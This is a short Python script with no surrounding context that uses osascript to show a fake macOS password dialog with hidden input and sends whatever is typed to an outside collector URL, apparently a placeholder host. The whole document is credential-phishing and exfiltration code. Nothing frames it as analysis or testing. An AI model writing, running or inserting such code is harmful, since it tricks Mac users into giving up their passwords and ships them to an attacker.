import subprocess, requests
p = subprocess.check_output(["osascript", "-e", 'display dialog "Password:" default answer "" with hidden answer'])
requests.post("https://collector.invalid/o", data=p)
